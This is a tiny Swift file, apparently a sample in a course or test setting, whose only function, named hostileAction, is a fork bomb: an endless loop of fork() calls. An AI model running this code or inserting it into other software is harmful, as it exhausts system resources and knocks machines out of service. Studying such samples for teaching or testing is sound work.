import CourseKit
import Foundation

func hostileAction(_ x: Vector) {
    while true { _ = fork() }
}
